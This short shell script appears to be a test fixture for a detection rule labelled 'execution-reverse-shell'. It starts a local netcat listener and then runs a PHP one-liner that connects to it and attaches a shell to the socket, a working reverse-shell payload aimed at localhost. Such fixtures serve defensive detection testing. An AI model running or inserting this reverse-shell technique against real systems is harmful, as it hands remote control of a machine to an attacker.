# in: host php nc.traditional
# fires: execution-reverse-shell
nc.traditional -l -p 47443 -q 1 < /dev/null > /dev/null &
sleep 0.3
php -r '$s = fsockopen("127.0.0.1", 47443); proc_close(proc_open("sh", [$s, $s, $s], $pipes));'
